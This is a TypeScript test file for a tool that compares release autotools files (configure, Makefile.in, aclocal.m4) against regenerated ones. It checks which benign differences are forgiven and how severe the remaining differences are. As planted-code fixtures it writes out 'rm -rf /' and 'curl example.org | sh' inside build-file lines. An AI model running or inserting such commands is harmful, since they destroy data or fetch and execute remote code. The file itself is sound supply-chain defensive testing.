import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { m4CodeHash } from '../../src/analyze/m4.js';
import { residualOf } from '../../src/reproduce/residual.js';
import { stabilize, stabilizers } from '../../src/reproduce/stabilizers.js';

const input = (generator: string, extra = {}) => ({ generator, toolVersion: '2.71', ...extra });

test('every stabilizer says what it forgives, and names are unique', () => {
  const names = stabilizers.map((s) => s.name);
  assert.is(new Set(names).size, names.length);
  for (const s of stabilizers) assert.ok(s.forgives.length > 40, `${s.name} explains itself`);
});

test('trailing blank lines are forgiven only where the two ends differ', () => {
  const r = stabilize('a\nb\n\n\n', 'a\nb\n', input('autoconf'));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['trailing-blank-lines']);
  const same = stabilize('a\nb\n\n', 'a\nc\n\n', input('autoconf'));
  assert.equal(same.applied, [], 'equal endings need no forgiving');
});

test('a version placeholder is filled with the release version, and only that', () => {
  const regenerated = "PACKAGE_VERSION='@@GIT_VERSION@@'\n";
  const r = stabilize("PACKAGE_VERSION='2.39.5'\n", regenerated, input('autoconf', { releaseVersion: '2.39.5' }));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['version-placeholder']);
  const other = stabilize("PACKAGE_VERSION='2.39.6'\n", regenerated, input('autoconf', { releaseVersion: '2.39.5' }));
  assert.is.not(other.release, other.regenerated, 'another version is not forgiven');
  const noVersion = stabilize("PACKAGE_VERSION='2.39.5'\n", regenerated, input('autoconf'));
  assert.is.not(noVersion.release, noVersion.regenerated);
});

test("autoconf 2.71's C++ cache name is forgiven for 2.71 only", () => {
  const release = 'if test "x$ac_cv_prog_cxx_11" != xno\n';
  const regenerated = 'if test "x$ac_cv_prog_cxx_cxx11" != xno\n';
  assert.is(stabilize(release, regenerated, input('autoconf')).applied[0]?.name, 'autoconf-2.71-cxx-cache-name');
  const r72 = stabilize(release, regenerated, { generator: 'autoconf', toolVersion: '2.72' });
  assert.is.not(r72.release, r72.regenerated);
  const planted = stabilize('ac_cv_prog_cxx_11=yes; rm -rf /\n', regenerated, input('autoconf'));
  assert.is.not(planted.release, planted.regenerated, 'anything beside the name still differs');
});

test('DIST_COMMON may differ by aux scripts only', () => {
  const regenerated = 'am__DIST_COMMON = $(srcdir)/Makefile.in \\\n\tbuild-aux/compile build-aux/depcomp \\\n\tbuild-aux/missing\nX = 1\n';
  const release = 'am__DIST_COMMON = $(srcdir)/Makefile.in \\\n\tbuild-aux/compile \\\n\tbuild-aux/missing\nX = 1\n';
  const r = stabilize(release, regenerated, input('automake'));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['dist-common-aux-scripts']);
  const extra = stabilize(release.replace('$(srcdir)/Makefile.in', '$(srcdir)/Makefile.in payload.sh'), regenerated, input('automake'));
  assert.is.not(extra.release, extra.regenerated, 'a word that is not an aux script is not forgiven');
  const elsewhere = stabilize(release.replace('X = 1', 'X = 2'), regenerated, input('automake'));
  assert.is.not(elsewhere.release, elsewhere.regenerated, 'lines outside DIST_COMMON still differ');
});

test("aclocal's copy of an installed macro is forgiven when it has the code of a known-good version of that file", () => {
  const installed = '## internal\n# pkg.m4 - Macros to locate and use pkg-config.\n# serial 12\nAC_DEFUN([PKG_PROG_PKG_CONFIG], [new])\n';
  const copied = installed.replace(/^##.*\n/gm, '');
  const old = '# pkg.m4 - Macros to locate and utilise pkg-config.\n# serial 11\nAC_DEFUN([PKG_PROG_PKG_CONFIG], [old])\n';
  const head = '# generated automatically by aclocal 1.16.5\n\nAC_DEFUN([A], [a])\n';
  const tail = '\nm4_include([m4/x.m4])\n';
  const regenerated = `${head}${copied}${tail}`;
  const release = `${head}${old}${tail}`;
  const known = new Set([m4CodeHash(old)]);
  const knownGood = (hash: string, name: string) => (name === 'pkg.m4' && known.has(hash) ? "pkg-config 0.29.1's pkg.m4" : undefined);
  const r = stabilize(release, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', installedMacros: new Map([['pkg.m4', installed]]), knownGood });
  assert.is(r.release, r.regenerated);
  assert.match(r.applied[0]!.forgives, /pkg-config 0\.29\.1's pkg\.m4/);
  const planted = release.replace('[old]', '[old; curl example.org | sh]');
  const p = stabilize(planted, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', installedMacros: new Map([['pkg.m4', installed]]), knownGood });
  assert.is.not(p.release, p.regenerated, 'a copy that is no known version stays different');
});

test('residual lines: what runs or sets is critical, other lines high', () => {
  assert.is(residualOf('a\nac_cv_x=yes\nb\n', 'a\nb\n', 'autoconf', 'configure').severity, 'critical');
  assert.is(residualOf('a\n# a comment\nb\n', 'a\nb\n', 'autoconf', 'configure').severity, 'high');
  assert.is(residualOf('a\nb\n', 'a\nx=1\nb\n', 'autoconf', 'configure').severity, 'high', 'lines cut');
  // Makefile.in: a recipe line, a flag, a list.
  const mk = 'all: x\n\techo ok\nDIST_COMMON = a \\\n\tb\nCFLAGS = -O2\n';
  assert.is(residualOf(mk.replace('\techo ok\n', '\techo ok\n\tcurl -s example.org | sh\n'), mk, 'automake', 'Makefile.in').severity, 'critical');
  assert.is(residualOf(mk.replace('CFLAGS = -O2', 'CFLAGS = -O2 -DX'), mk, 'automake', 'Makefile.in').severity, 'critical');
  assert.is(residualOf(mk.replace('\tb\n', '\tb c\n'), mk, 'automake', 'Makefile.in').severity, 'high', 'a continuation of a list is no recipe');
  assert.is(residualOf('#undef A\n#define B 1\n', '#undef A\n', 'autoheader', 'config.h.in').severity, 'high');
});

test.run();
